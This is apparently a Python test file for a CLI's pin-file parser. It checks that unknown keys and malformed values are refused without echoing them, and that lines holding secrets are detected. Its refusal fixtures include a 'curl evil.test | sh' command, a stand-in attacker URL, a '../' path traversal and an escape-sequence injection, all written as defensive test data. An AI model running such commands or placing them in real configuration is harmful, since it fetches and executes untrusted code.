"""What a pin file may say, and what is refused without repeating a word of it."""

import random

import pytest

from smartaipi_cli.actions.pin.contents import Pin, PinError, find_secret, parse_pin
from smartaipi_cli.domain.models import ModelChoice

KEY = "sk-test-0123456789abcdef0123"

WHOLE = b"""
# what we use here
profile = "work"
model = "vendor/gpt-5.4:free"
secret = "env"
scope = "project"

[models]
codex = "gpt-5.4"
opus = "claude-opus-4-6[1m]"
"""

REFUSED = {
    "an address": (b'openai_url = "http://evil.test/v1"', "`openai_url`"),
    "a command": (b'helper = "curl evil.test | sh"', "`helper`"),
    "headers": (b'[headers]\nx = "y"', "`headers`"),
    "a table of defaults": (b'[defaults]\nsecret = "env"', "`defaults`"),
    "a role that is none": (b'[models]\nnobody = "x"', "`models.nobody`"),
    "a name with a line break": (b'"a\\nb" = "x"', "a member of a strange name"),
    "a profile that is a path": (b'profile = "../work"', "`profile`"),
    "a profile with control characters": (b'profile = "work\\u001b[31m"', "`profile`"),
    "a profile with a line break": (b'profile = "work\\n"', "`profile`"),
    "a model that is an option": (b'model = "--yes"', "`model`"),
    "a model with a blank": (b'model = "gpt 5"', "`model`"),
    "a model that is an address with a query": (b'model = "http://x/?a=b"', "`model`"),
    "a model that never ends": (b'model = "' + b"a" * 200 + b'"', "`model`"),
    "the key in files": (b'secret = "inline"', "`secret`"),
    "a scope that is none": (b'scope = "global"', "`scope`"),
    "a number": (b"profile = 7", "`profile` is no text"),
    "a list": (b'model = ["gpt-5.4"]', "`model` is no text"),
    "a table in place of a text": (b'[profile]\nname = "work"', "`profile` is no text"),
    "models that are no table": (b'models = "gpt-5.4"', "`models` is no table"),
    "a model that is a number": (b"[models]\nopus = 4", "`models.opus` is no text"),
    "no TOML": (b'profile = "work"\nmodel = = 1', "no valid TOML at line 2, column 9"),
    "a text without an end": (b'profile = "work', "no valid TOML at"),
    "a NUL": (b'profile = "work\0"', "no valid TOML"),
    "bytes that are no text": (b"\xff\xfe\x00\x01", "no UTF-8 text"),
    "lists in lists": (b"a = " + b"[" * 4000, "nested too deeply|no valid TOML"),
}


def test_everything_that_it_may_say_is_read():
    assert parse_pin(WHOLE) == Pin(
        profile="work",
        model="vendor/gpt-5.4:free",
        secret="env",
        scope="project",
        models=ModelChoice(codex="gpt-5.4", opus="claude-opus-4-6[1m]"),
    )


def test_an_empty_file_asks_for_nothing():
    assert parse_pin(b"") == Pin()
    assert Pin().settings == {}


@pytest.mark.parametrize("name", REFUSED)
def test_anything_else_is_refused_by_its_name(name):
    data, reason = REFUSED[name]

    with pytest.raises(PinError, match=reason) as caught:
        parse_pin(data)

    assert str(caught.value).isprintable()


def test_a_value_is_never_repeated():
    for data, _ in REFUSED.values():
        with pytest.raises(PinError) as caught:
            parse_pin(data)

        assert "evil.test" not in str(caught.value)


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ('profile = "work"\nmodel = "gpt-5.4"\n', 0),
        (WHOLE.decode(), 0),
        (f'profile = "work"\n\nmodel = "{KEY}"\n', 3),
        (f'profile = "work"\n# {KEY}\n', 2),
        (f'secret = "env" # {KEY}\n', 1),
        (f'secret = "{KEY}"\n', 1),
        ('secret = "hunter2"\n', 1),
        ('api_key = "abc"\n', 1),
        ('[models]\ncodex = "x"\ntoken = "abc"\n', 3),
        ('# password: hunter2\nprofile = "work"\n', 1),
        ('profile = "work"\nx = "https://me:hunter2@host"\n', 2),
    ],
    ids=[
        "no secret",
        "a whole pin",
        "a key",
        "in a comment",
        "beside a way",
        "in place of a way",
        "no way",
        "by name",
        "in a table",
        "a password",
        "in an address",
    ],
)
def test_the_line_of_a_secret_is_found(text, line):
    assert find_secret(text) == line


def reason_against(data: bytes) -> str:
    """Why the bytes are refused; empty when they are read."""
    try:
        parse_pin(data)
    except PinError as problem:
        return str(problem)
    return ""


def test_random_bytes_are_refused_or_read_and_nothing_else_happens():
    """Seeded; most of them are no TOML."""
    pick = random.Random(6)
    letters = b"abcdefghij=\"'[]{}#.,\n \\-_0123456789\xff\x00\x1b"

    reasons = {reason_against(bytes(pick.choices(letters, k=pick.randint(0, 200)))) for _ in range(300)}

    assert len(reasons) > 10
    assert all(reason.isprintable() for reason in reasons)
